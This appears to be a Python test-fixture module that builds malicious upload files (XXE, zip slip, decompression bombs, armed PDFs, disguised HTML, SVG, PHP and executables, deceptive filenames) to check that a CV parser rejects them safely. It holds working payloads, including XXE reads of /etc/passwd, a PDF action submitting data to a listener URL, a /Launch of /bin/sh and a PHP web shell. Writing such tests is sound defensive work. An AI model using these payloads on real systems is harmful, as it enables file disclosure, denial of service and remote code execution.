"""Files that strangers send on purpose: made here, deterministic, small on disk.

`hostile_files(canary, listener)` yields (name of the attack, filename, bytes). `canary` is the path of a file whose content
must never come back, `listener` an address that must never be called. What a good reader may do with each is refuse it or read harmless text out of it; what it must never do
is raise, hang, open the canary or a socket.
"""

import base64
import io
import struct
import zipfile
import zlib
from collections.abc import Iterator
from pathlib import Path

from tests.intelligence.documents import DOCX_MAIN, archive, docx, odt, paragraph, pdf, text_pdf

HostileFile = tuple[str, str, bytes]
TEXT = "Ordinary words of a person who applies for a job and writes more than fifty characters."
NOBODY = "http://127.0.0.1:9/canary"


def hostile_files(canary: Path, listener: str = NOBODY) -> Iterator[HostileFile]:
    """All of them."""
    yield from entities(canary, listener)
    yield from archives()
    yield from pdfs(listener)
    yield from disguised()
    yield from bad_names()


def entities(canary: Path, listener: str = NOBODY) -> Iterator[HostileFile]:
    """XML that reads files, asks the network or grows without end."""
    uri = canary.resolve().as_uri()
    body = paragraph("&x; " + TEXT)
    for name, target in (("file", uri), ("http", listener), ("relative", "../../../../etc/passwd")):
        prologue = f'<!DOCTYPE a [<!ENTITY x SYSTEM "{target}">]>'
        yield f"xxe {name} docx", "cv.docx", docx(body, prologue=prologue)
        yield f"xxe {name} odt", "cv.odt", odt(f"<text:p>&x; {TEXT}</text:p>", prologue=prologue)
    parameter = f'<!DOCTYPE a [<!ENTITY % p SYSTEM "{uri}"> %p;]>'
    yield "xxe parameter docx", "cv.docx", docx(paragraph(TEXT), prologue=parameter)
    yield "xxe remote dtd docx", "cv.docx", docx(paragraph(TEXT), prologue=f'<!DOCTYPE a SYSTEM "{listener}.dtd">')
    wide = f'<!DOCTYPE a [<!ENTITY x SYSTEM "{uri}">]>'
    yield "xxe utf-16 docx", "cv.docx", docx(body, prologue=wide, encoding="UTF-16")
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    bomb = f'<!DOCTYPE a [<!ENTITY l0 "ha">{laughs}]>'
    yield "billion laughs docx", "cv.docx", docx(paragraph("&l9;"), prologue=bomb)
    yield "billion laughs odt", "cv.odt", odt("<text:p>&l9;</text:p>", prologue=bomb)
    include = f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{uri}" parse="text"/>'
    yield "xinclude odt", "cv.odt", odt(f"<text:p>{include}{TEXT}</text:p>")
    yield "deep nesting odt", "cv.odt", odt("<text:p>" * 20_000 + TEXT + "</text:p>" * 20_000)


def archives() -> Iterator[HostileFile]:
    """ZIP containers that lie, grow, point elsewhere or carry programs."""
    yield "docx bomb", "cv.docx", docx(paragraph("A" * 130_000_000))
    yield "docx ratio", "cv.docx", docx(paragraph("A" * 30_000_000))
    plain = docx(paragraph(TEXT))
    yield "lying directory docx", "cv.docx", _lie_about_size(docx(paragraph("B" * 2_000_000)))
    yield (
        "nested zip",
        "cv.docx",
        _with(plain, {"word/embeddings/a.zip": archive({"b.zip": archive({"c": b"0" * 9_000_000})})}),
    )
    yield "100k entries", "cv.docx", _many_entries(100_000)
    yield "zip slip", "cv.docx", _with(plain, {"../../../../tmp/perennial-slip": "slipped"})
    yield "zip slip absolute", "cv.docx", _with(plain, {"/tmp/perennial-slip": "slipped"})
    yield "zip slip drive", "cv.docx", _with(plain, {"C:\\perennial-slip": "slipped"})
    yield "symlink", "cv.docx", _with_symlink(plain)
    yield (
        "macros docm as docx",
        "cv.docx",
        _replaced(plain, DOCX_MAIN, DOCX_MAIN.replace("wordprocessingml.document.main", "macroEnabled")),
    )
    yield "macro part", "cv.docx", _with(plain, {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + b"macro" * 40})
    yield "macros odt", "cv.odt", odt(f"<text:p>{TEXT}</text:p>", extra={"Basic/Standard/Module1.xml": "<x/>"})
    yield (
        "encrypted odt",
        "cv.odt",
        odt(f"<text:p>{TEXT}</text:p>", extra={"META-INF/manifest.xml": "<m><encryption-data/></m>"}),
    )
    yield "overlapping zip", "cv.docx", _overlapping(plain)
    yield "truncated docx", "cv.docx", plain[: len(plain) // 2]
    yield "zip of nothing", "cv.docx", archive({})
    yield "ole doc", "cv.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"WordDocument" * 100
    package = "EncryptedPackage".encode("utf-16-le")
    yield "password docx", "cv.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 600 + package + b"\x00" * 600
    yield "rtf object", "cv.rtf", rb"{\rtf1{\object\objemb{\*\objdata 0105000002000000}}" + TEXT.encode() + b"}"
    yield "rtf nesting", "cv.rtf", rb"{\rtf1" + b"{" * 100_000 + TEXT.encode() + b"}" * 100_000 + b"}"


def pdfs(listener: str = NOBODY) -> Iterator[HostileFile]:
    """PDF files that are locked, broken, endless or armed."""
    script = b"/OpenAction<</S/JavaScript/JS(app.alert\\(1\\);this.submitForm\\('%s'\\))>>" % listener.encode()
    launch = b"/OpenAction<</S/Launch/F(/bin/sh)/Win<</F(cmd.exe)>>>>"
    yield "pdf javascript", "cv.pdf", text_pdf(TEXT, catalog=script)
    yield "pdf launch", "cv.pdf", text_pdf(TEXT, catalog=launch)
    yield (
        "pdf embedded file",
        "cv.pdf",
        text_pdf(TEXT, catalog=b"/Names<</EmbeddedFiles<</Names[(a.exe)<</Type/EmbeddedFile>>]>>>>"),
    )
    yield (
        "pdf external stream",
        "cv.pdf",
        pdf(
            [
                b"<</Type/Catalog/Pages 2 0 R>>",
                b"<</Type/Pages/Count 1/Kids[4 0 R]>>",
                b"<</Length 0/F(/etc/passwd)>>stream\n\nendstream",
                b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Contents 3 0 R>>",
            ]
        ),
    )
    whole = text_pdf(TEXT)
    yield "pdf truncated", "cv.pdf", whole[: len(whole) // 2]
    yield "pdf only head", "cv.pdf", b"%PDF-1.7\n"
    yield "pdf noise", "cv.pdf", b"%PDF-1.7\n" + bytes((n * 7919) % 251 for n in range(50_000))
    yield "pdf encrypted", "cv.pdf", _encrypted_pdf()
    yield "pdf many pages", "cv.pdf", text_pdf(TEXT, pages=3_000)
    yield "pdf claims 100k pages", "cv.pdf", text_pdf(TEXT).replace(b"/Count 1/", b"/Count 100000/")
    yield (
        "pdf page loop",
        "cv.pdf",
        pdf([b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Count 9/Kids[2 0 R 2 0 R]>>"]),
    )
    yield "pdf xref loop", "cv.pdf", _xref_loop()
    yield "pdf stream bomb", "cv.pdf", _stream_bomb()
    yield "pdf stream storm", "cv.pdf", b"%PDF-1.7\n" + b"stream\n" * 1_000_000
    yield "pdf deep arrays", "cv.pdf", pdf([b"<</Type/Catalog/Pages 2 0 R/X " + b"[" * 60_000 + b"]" * 60_000 + b">>"])
    yield "pdf without text", "cv.pdf", text_pdf("")
    yield "pdf huge page", "cv.pdf", text_pdf("\n".join([TEXT] * 4_000))


def disguised() -> Iterator[HostileFile]:
    """Content of one kind under the name of another, and files that are two kinds at once."""
    page = b"<!doctype html><html><script>alert(1)</script>" + TEXT.encode()
    picture = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>' + TEXT.encode()
    program = b"<?php system($_GET['c']); ?>" + TEXT.encode()
    script = b"fetch('/recruiter/').then(r => r.text()) // " + TEXT.encode()
    for ending in ("pdf", "docx", "odt", "rtf"):
        yield f"html as {ending}", f"cv.{ending}", page
        yield f"svg as {ending}", f"cv.{ending}", picture
        yield f"js as {ending}", f"cv.{ending}", script
        yield f"php as {ending}", f"cv.{ending}", program
    yield "html as txt", "cv.txt", page
    yield "svg as txt", "cv.txt", picture
    yield "php as txt", "cv.txt", program
    yield "elf as txt", "cv.txt", b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 200
    yield "exe as pdf", "cv.pdf", b"MZ" + b"\x90\x00" * 100
    good = text_pdf(TEXT)
    yield "pdf and html", "cv.pdf", good.replace(b"%PDF-1.7\n", b"%PDF-1.7\n" + page + b"\n")
    yield "pdf and zip", "cv.pdf", good + archive({"index.html": page})
    yield "html then pdf", "cv.pdf", page + b"\n" + good
    yield "jpeg and zip", "cv.docx", b"\xff\xd8\xff\xe0\x00\x10JFIF" + b"\x00" * 64 + docx(paragraph(TEXT))
    yield "docx as pdf", "cv.pdf", docx(paragraph(TEXT))
    yield "pdf as docx", "cv.docx", good
    eicar = base64.b64decode(
        "WDVPIVAlQEFQWzRcUFpYNTQoUF4pN0NDKTd9JEVJQ0FSLVNUQU5EQVJELUFOVElWSVJVUy1URVNULUZJTEUhJEgrSCo="
    )
    yield "eicar as pdf", "cv.pdf", eicar
    yield "eicar as txt", "cv.txt", eicar
    yield "one long line", "cv.txt", b"word " * 400_000
    yield "lone surrogates", "cv.txt", TEXT.encode() + b"\xed\xa0\x80\xed\xbf\xbf" * 50
    yield "zalgo", "cv.txt", ("J" + "\u0301\u0316\u0334" * 400 + "ohn Doe\n" + TEXT).encode()
    yield (
        "bracket storm",
        "cv.txt",
        (TEXT + "\n" + "(" * 50_000 + "\n" + "2019 - " * 20_000 + "\n" + "a@" * 50_000).encode(),
    )
    yield "digit storm", "cv.txt", (TEXT + "\n" + "+49 30 1234567 " * 5_000 + "\n" + "1." * 60_000).encode()
    yield (
        "comma storm",
        "cv.txt",
        ("Skills\n" + ", " * 60_000 + TEXT + "\nExperience\n" + "A, " * 40_000 + "2019 - 2020\n").encode(),
    )
    yield "empty", "cv.pdf", b""
    yield "blank", "cv.txt", b" \n\t\x00\x00"


def bad_names() -> Iterator[HostileFile]:
    """A sound document under a name that lies."""
    good = text_pdf(TEXT)
    for name in (
        "cv.phtml", "cv.pdf.html", "cv.html", "cv.svg", "cv.pdf\x00.html", "cv.pdf\x00.pdf", "cv\u202efdp.exe", "cv\u202egpj.pdf",
        "cv.pdf.", "cv", "", ".", "..", ".pdf.exe", "cv.pdf\r\nX-Header: 1", "cv.doc", "cv.docm", "cv.js", "cv.pdf:stream", "cv.pdf;.php",
    ):  # fmt: skip
        yield f"name {name!r}", name, good


def _with(base: bytes, extra: dict[str, str | bytes]) -> bytes:
    buffer = io.BytesIO(base)
    with zipfile.ZipFile(buffer, "a", zipfile.ZIP_DEFLATED) as file:
        for name, content in extra.items():
            entry = zipfile.ZipInfo(name)
            entry.filename = name
            file.writestr(entry, content)
    return buffer.getvalue()


def _with_symlink(base: bytes) -> bytes:
    buffer = io.BytesIO(base)
    with zipfile.ZipFile(buffer, "a") as file:
        entry = zipfile.ZipInfo("word/media/link")
        entry.create_system, entry.external_attr = 3, 0o120777 << 16
        file.writestr(entry, "/etc/passwd")
    return buffer.getvalue()


def _replaced(base: bytes, old: str, new: str) -> bytes:
    with zipfile.ZipFile(io.BytesIO(base)) as file:
        return archive({name: file.read(name).replace(old.encode(), new.encode()) for name in file.namelist()})


def _many_entries(count: int) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as file:
        file.writestr("[Content_Types].xml", DOCX_MAIN)
        for number in range(count):
            file.writestr(str(number), b"")
    return buffer.getvalue()


def _lie_about_size(base: bytes) -> bytes:
    """The directory says that the document is small; the compressed data behind it is not."""
    at = base.rindex(b"PK\x01\x02", 0, base.rindex(b"word/document.xml"))
    local = base.index(b"PK\x03\x04", base.index(b"_rels/.rels") + 11)
    changed = bytearray(base)
    changed[at + 24 : at + 28] = changed[local + 22 : local + 26] = struct.pack("<I", 5_000)
    return bytes(changed)


def _overlapping(base: bytes) -> bytes:
    """Two hundred names in the directory for the same compressed bytes."""
    end = base.rindex(b"PK\x05\x06")
    start = struct.unpack("<I", base[end + 16 : end + 20])[0]
    first_end = base.index(b"PK\x01\x02", start + 4)
    entry = bytearray(base[start:first_end])
    name_length = struct.unpack("<H", entry[28:30])[0]
    copies = bytearray()
    for number in range(200):
        entry[46 : 46 + name_length] = f"{number:03d}".encode().ljust(name_length, b"x")
        copies += entry
    directory = base[start:end] + bytes(copies)
    count = struct.unpack("<H", base[end + 10 : end + 12])[0] + 200
    tail = b"PK\x05\x06\x00\x00\x00\x00" + struct.pack("<HHIIH", count, count, len(directory), start, 0)
    return base[:start] + directory + tail


def _encrypted_pdf() -> bytes:
    """Locked by the standard handler with a password nobody has."""
    locked = b"<</Filter/Standard/V 1/R 2/P -1340/O<%s>/U<%s>>>" % (b"ab" * 32, b"cd" * 32)
    stream = b"BT (locked) Tj ET"
    return pdf(
        [
            b"<</Type/Catalog/Pages 2 0 R>>",
            b"<</Type/Pages/Count 1/Kids[4 0 R]>>",
            b"<</Length %d>>stream\n%s\nendstream" % (len(stream), stream),
            b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 3 0 R>>",
            locked,
        ],
        b"<</Root 1 0 R/Encrypt 5 0 R/ID[<%s><%s>]>>" % (b"00" * 16, b"00" * 16),
    )


def _xref_loop() -> bytes:
    """A cross-reference table whose predecessor is itself."""
    good = text_pdf(TEXT)
    start = good.index(b"xref\n0")
    return good.replace(b"<</Size", b"<</Prev %d/Size" % start, 1)


def _stream_bomb() -> bytes:
    """A page whose content grows from some kilobytes to hundreds of megabytes."""
    packer = zlib.compressobj(9)
    squeezed = b"".join(packer.compress(b"BT (A) Tj ET\n" * 80_000) for _ in range(300)) + packer.flush()
    return pdf(
        [
            b"<</Type/Catalog/Pages 2 0 R>>",
            b"<</Type/Pages/Count 1/Kids[4 0 R]>>",
            b"<</Length %d/Filter/FlateDecode>>stream\n%s\nendstream" % (len(squeezed), squeezed),
            b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 3 0 R>>",
        ]
    )


__all__ = ["NOBODY", "TEXT", "HostileFile", "archives", "bad_names", "disguised", "entities", "hostile_files", "pdfs"]
